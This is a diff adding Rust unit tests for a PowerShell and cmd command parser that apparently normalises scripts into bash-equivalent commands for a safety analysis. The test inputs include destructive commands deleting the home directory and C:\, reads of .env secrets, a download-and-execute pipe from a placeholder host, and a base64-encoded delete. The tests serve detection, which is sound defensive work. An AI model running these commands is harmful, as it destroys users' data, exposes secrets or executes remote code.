@@ -1,0 +1,127 @@
+//! What PowerShell scripts amount to, as the bash analysis's commands.
+
+use super::*;
+
+/// Each command as `program args…` (operands' values shown), for comparison.
+fn shown(script: &str) -> Vec<String> {
+    parse(script)
+        .unwrap_or_else(|e| panic!("{script:?}: {e}"))
+        .iter()
+        .map(|c| {
+            let mut s = c.program.clone();
+            for f in &c.flags {
+                s.push(' ');
+                s.push_str(f);
+            }
+            for v in &c.operand_values {
+                s.push(' ');
+                s.push_str(&v.to_string());
+            }
+            for r in &c.redirects {
+                s.push_str(&format!(" >{}", r.value));
+            }
+            if let Some(code) = c.code {
+                s.push_str(&format!(" [{}]", code.as_str()));
+            }
+            s
+        })
+        .collect()
+}
+
+#[test]
+fn delete_cmdlets_are_rm() {
+    assert_eq!(shown("Remove-Item -Recurse -Force ~"), ["rm -r -f $HOME"]);
+    assert_eq!(shown("ri ~ -r -fo"), ["rm -r -f $HOME"]);
+    assert_eq!(shown("REMOVE-ITEM -rec -FORCE $HOME"), ["rm -r -f $HOME"]);
+    assert_eq!(
+        shown("Remove-Item \u{2013}Recurse C:\\Windows"),
+        ["rm -r /c/Windows"]
+    );
+    assert_eq!(
+        shown("$p = @{ Path = '~'; Recurse = $true }; Remove-Item @p"),
+        ["rm -r $HOME"]
+    );
+    assert_eq!(
+        shown("Remove-Item -LiteralPath $env:USERPROFILE -Recurse"),
+        ["rm -r $HOME"]
+    );
+    assert_eq!(
+        shown("Remove-Item build -Recurse -WhatIf"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn reads_downloads_and_code() {
+    assert_eq!(shown("Get-Content .env"), ["cat .env"]);
+    assert_eq!(shown("gc -Path .\\config\\.env"), ["cat ./config/.env"]);
+    let s = shown("irm https://x.example/i.ps1 | iex");
+    assert!(
+        s.contains(&"curl -f -s -S -L https://x.example/i.ps1".to_string()),
+        "{s:?}"
+    );
+    assert!(s.iter().any(|c| c.starts_with("pwsh")), "{s:?}");
+    assert_eq!(
+        shown("iex 'Remove-Item ~ -Recurse'"),
+        ["eval [inline]", "rm -r $HOME"]
+    );
+    let s = shown("iex $code");
+    assert_eq!(s, ["eval [dynamic]"]);
+}
+
+#[test]
+fn encoded_commands_are_decoded() {
+    // "Remove-Item ~ -Recurse" as UTF-16LE base64.
+    let text: Vec<u8> = "Remove-Item ~ -Recurse"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let b64 = b64(&text);
+    let s = shown(&format!("powershell -NoProfile -EncodedCommand {b64}"));
+    assert_eq!(s, ["powershell [decoded]", "rm -r $HOME"]);
+}
+
+fn b64(b: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut s = String::new();
+    for ch in b.chunks(3) {
+        let n = (u32::from(ch[0]) << 16)
+            | (u32::from(*ch.get(1).unwrap_or(&0)) << 8)
+            | u32::from(*ch.get(2).unwrap_or(&0));
+        for k in 0..4 {
+            if k <= ch.len() {
+                s.push(A[((n >> (18 - 6 * k)) & 63) as usize] as char);
+            } else {
+                s.push('=');
+            }
+        }
+    }
+    s
+}
+
+#[test]
+fn cmd_lines() {
+    assert_eq!(
+        shown("cmd /c \"rd /s /q C:\\\""),
+        ["cmd [inline]", "rm -r /c/"]
+    );
+    assert_eq!(
+        shown("cmd /c del /f /s /q %USERPROFILE%\\*"),
+        ["cmd [inline]", "rm -f -r $HOME/*"]
+    );
+}
+
+#[test]
+fn git_and_programs_as_written() {
+    assert_eq!(shown("git reset --hard"), ["git --hard reset"]);
+}
+
+#[test]
+fn location_is_followed() {
+    let cmds = parse("Set-Location C:\\temp; Remove-Item * -Recurse").unwrap();
+    let rm = cmds
+        .iter()
+        .find(|c| c.program == "rm")
+        .unwrap_or_else(|| panic!("{cmds:#?}"));
+    assert!(rm.cwd.to_string().contains("/c/Temp"), "{}", rm.cwd);
+}
